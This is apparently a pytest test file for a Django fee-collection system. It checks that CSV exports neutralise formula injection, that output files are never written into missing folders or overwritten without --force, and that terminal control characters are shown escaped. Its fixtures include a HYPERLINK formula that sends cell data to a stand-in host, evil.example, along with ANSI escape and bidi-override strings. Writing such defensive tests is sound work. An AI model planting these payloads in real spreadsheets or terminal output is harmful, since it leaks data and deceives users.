"""The files Canbao writes and what it prints, when names, folders and files are hostile: a CSV
cell never starts a formula, an output is never written into a missing folder nor over an
existing file without --force (and never half-written), and control characters from the data
are shown escaped, never sent raw to the terminal.

The campaign is Wuming's (武鸣区 2018): 180 yuan = 18000 fen, concentrated period from
2017-09-01, bank withholding with three-party agreements."""

import csv
import io
import json
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command, load_command_class
from django.core.management.base import CommandError

from canbao.campaigns.models import Campaign
from canbao.campaigns.services import assess_campaign, open_campaign
from canbao.collection.models import WithholdingBatch
from canbao.collection.withholding import import_agreements
from canbao.idnumber import make
from canbao.regions.models import Division
from canbao.registry.models import ImportBatch
from canbao.registry.services import import_residents
from tests.conftest import csv_file, resident, staff

pytestmark = pytest.mark.django_db

WUMING, CHENGXIANG, VILLAGE = "450110", "450110100", "450110100201"
AGREEMENT_HEADER = ("姓名", "公民身份号码", "开户银行", "账号", "户名", "签订日期")
TAX_HEADER = ("缴费日期", "交易流水号", "姓名", "公民身份号码", "金额（元）", "银行")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&D2,"点击查看")'


def wid(sequence: int, sex: str = "M") -> str:
    return make(WUMING, date(1975, 3, 8), sequence, sex)  # type: ignore[arg-type]


# name, ID, account, bank, account name (户名): as the village typed them.
PEOPLE = [
    ("=1+1", wid(1), "6228480010000000011", "中国农业银行武鸣支行", HYPERLINK),
    ("黄秀兰", wid(2, "F"), "6228480010000000029", "@SUM(9)", "-黄秀兰"),
    ("蓝志明", wid(3), "6228480010000000037", "中国农业银行武鸣支行", "+蓝志明"),
]


@pytest.fixture
def campaign(as_admin: None, tmp_path: Path) -> Campaign:
    county = Division.objects.create(code=WUMING, name="武鸣区", level="county")
    township = Division.objects.create(
        code=CHENGXIANG, name="城厢镇", level="township", parent=county
    )
    Division.objects.create(code=VILLAGE, name="城厢社区", level="village", parent=township)
    rows = [resident(p[0], p[1], f"W{n}", "户主", VILLAGE) for n, p in enumerate(PEOPLE)]
    path = csv_file(tmp_path / "wuming.csv", rows, title=None)
    assert not import_residents(path=path, actor=staff("t"), today=date(2017, 9, 1)).errors
    opened = open_campaign(area_code=WUMING, policy="wuming-2018", actor=staff("t"))
    assess_campaign(campaign=opened, actor=staff("t"))
    rows = [
        [name, number, bank, account, holder, "2017-09-20"]
        for name, number, account, bank, holder in PEOPLE
    ]
    agreements = csv_file(tmp_path / "agreements.csv", rows, AGREEMENT_HEADER, title=None)
    done = import_agreements(path=agreements, actor=staff("t"), today=date(2017, 9, 30))
    assert not done.errors, done.errors
    return opened


def run(*args: str) -> tuple[int, str]:
    """Exit status and what the command printed (stdout and stderr); a usage error's message."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command(*args, stdout=out, stderr=err)
    except SystemExit as stop:
        return int(stop.code or 0), out.getvalue() + err.getvalue()
    except CommandError as error:
        return error.returncode, str(error)
    return 0, out.getvalue() + err.getvalue()


# --- formulas in CSV files --------------------------------------------------------------------


def test_the_deduction_file_never_starts_a_formula(campaign: Campaign, tmp_path: Path) -> None:
    out = tmp_path / "代扣批次1.csv"
    code, text = run("withholding", "batch", "--out", str(out))
    assert code == 0, text
    with out.open(encoding="utf-8-sig", newline="") as stream:
        lines = list(csv.DictReader(stream))
    assert [(line["姓名"], line["开户银行"], line["户名"]) for line in lines] == [
        ("'=1+1", "中国农业银行武鸣支行", f"'{HYPERLINK}"),
        ("黄秀兰", "'@SUM(9)", "'-黄秀兰"),
        ("蓝志明", "中国农业银行武鸣支行", "'+蓝志明"),
    ]
    assert {line["金额（分）"] for line in lines} == {"18000"}  # numbers stay numbers
    assert {line["账号"] for line in lines} == {p[2] for p in PEOPLE}


# --- output paths -----------------------------------------------------------------------------


def bad_tax_file(tmp_path: Path) -> Path:
    return csv_file(
        tmp_path / "tax.csv",
        [["2017-10-30", "T1", "黄秀兰", wid(2, "F"), "abc", "农业银行"]],
        TAX_HEADER,
        title=None,
    )


# Each command option that writes a file: (the command's arguments up to the option, what it
# writes), run on a campaign whose output always has something to write.
WRITERS: dict[str, Callable[[Path], list[str]]] = {
    "withholding batch --out": lambda tmp: ["withholding", "batch", "--out"],
    "withholding retry --out": lambda tmp: ["withholding", "retry", "--out"],
    "withholding followup --xlsx": lambda tmp: ["withholding", "followup", "--xlsx"],
    "withholding agreements --errors-xlsx": lambda tmp: [
        "withholding",
        "agreements",
        str(bad_tax_file(tmp)),
        "--errors-xlsx",
    ],
    "import payments --errors-xlsx": lambda tmp: [
        "import",
        "payments",
        "--channel",
        "tax",
        str(bad_tax_file(tmp)),
        "--errors-xlsx",
    ],
    "reconcile --errors-xlsx": lambda tmp: [
        "reconcile",
        "--date",
        "2017-10-30",
        "--tax-file",
        str(bad_tax_file(tmp)),
        "--errors-xlsx",
    ],
    "bills --xlsx": lambda tmp: ["bills", "--funder", "medical_assistance", "--xlsx"],
    "receipts report --xlsx": lambda tmp: ["receipts", "report", "--xlsx"],
}


@pytest.mark.parametrize("writer", list(WRITERS))
def test_an_output_in_a_missing_folder_is_a_usage_error(
    campaign: Campaign, tmp_path: Path, writer: str
) -> None:
    batches = ImportBatch.objects.count()
    missing = tmp_path / "没有这个文件夹" / "out.xlsx"
    code, text = run(*WRITERS[writer](tmp_path), str(missing))
    assert code == 2 and "文件夹不存在" in text and "Traceback" not in text
    assert not missing.parent.exists()
    # Refused before any work: no import batch, no withholding batch.
    assert ImportBatch.objects.count() == batches and not WithholdingBatch.objects.exists()


@pytest.mark.parametrize("writer", list(WRITERS))
def test_an_existing_output_is_replaced_only_with_force(
    campaign: Campaign, tmp_path: Path, writer: str
) -> None:
    suffix = ".csv" if writer.endswith("--out") else ".xlsx"
    if writer == "withholding retry --out":  # a retry needs a first round that failed
        first = tmp_path / "batch1.csv"
        assert run("withholding", "batch", "--out", str(first))[0] == 0
        answers = [
            [
                line["批次号"],
                line["行号"],
                line["账号"],
                line["金额（分）"],
                "1001",
                "余额不足",
                "2017-10-30",
            ]
            for line in csv.DictReader(first.open(encoding="utf-8-sig", newline=""))
        ]
        header = ("批次号", "行号", "账号", "金额（分）", "返回码", "返回说明", "扣款日期")
        returned = csv_file(tmp_path / "return1.csv", answers, header, title=None)
        assert run("withholding", "returns", str(returned))[0] == 0
    target = tmp_path / f"existing{suffix}"
    target.write_bytes(b"the bank's copy")
    code, text = run(*WRITERS[writer](tmp_path), str(target))
    assert code == 2 and "已存在" in text and "--force" in text
    assert target.read_bytes() == b"the bank's copy"

    code, text = run(*WRITERS[writer](tmp_path), str(target), "--force")
    assert code in (0, 1), text  # done, or refused for the file's errors (which it wrote)
    assert target.read_bytes() != b"the bank's copy" and target.stat().st_size > 0
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# --- terminal ---------------------------------------------------------------------------------


ESCAPE = "\x1b[2J\x1b[31m"  # clear the screen, then red


def test_control_characters_in_names_are_not_echoed_raw(campaign: Campaign, tmp_path: Path) -> None:
    stranger = make(WUMING, date(1980, 1, 1), 99, "M")  # type: ignore[arg-type]
    path = csv_file(
        tmp_path / "tax.csv",
        [["2017-10-30", "T1", f"{ESCAPE}无名氏\x9b1m\u202e", stranger, "180", "农业银行"]],
        TAX_HEADER,
        title=None,
    )
    code, text = run("import", "payments", "--channel", "tax", str(path))
    assert code == 0 and "无名氏" in text
    assert not any(c in text for c in ("\x1b", "\x9b", "\u202e"))
    assert "\\u001b[2J" in text and "\\u009b" in text and "\\u202e" in text

    code, text = run("payments", "suspense")
    assert code == 0 and "无名氏" in text and "\x1b" not in text and "\\u001b" in text

    code, text = run("payments", "suspense", "--json")
    listed: dict[str, Any] = json.loads(text)
    assert listed["items"][0]["name"] == f"{ESCAPE}无名氏\x9b1m\u202e"  # the data itself, exact
    assert not any(c in text for c in ("\x1b", "\x9b", "\u202e"))


def test_a_file_name_with_control_characters_is_shown_escaped(
    campaign: Campaign,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # As the console script runs a command: a usage error is printed by Django on stderr.
    monkeypatch.setattr("django.core.management.base.connections.close_all", lambda: None)
    with pytest.raises(SystemExit) as stopped:
        load_command_class("canbao.cli", "import").run_from_argv(
            ["canbao", "import", "payments", "--channel", "tax", str(tmp_path / "\x1b[31mx.csv")]
        )
    printed = capsys.readouterr()
    assert stopped.value.code == 2 and "找不到文件" in printed.err
    assert "\x1b" not in printed.err and "\\u001b[31mx.csv" in printed.err
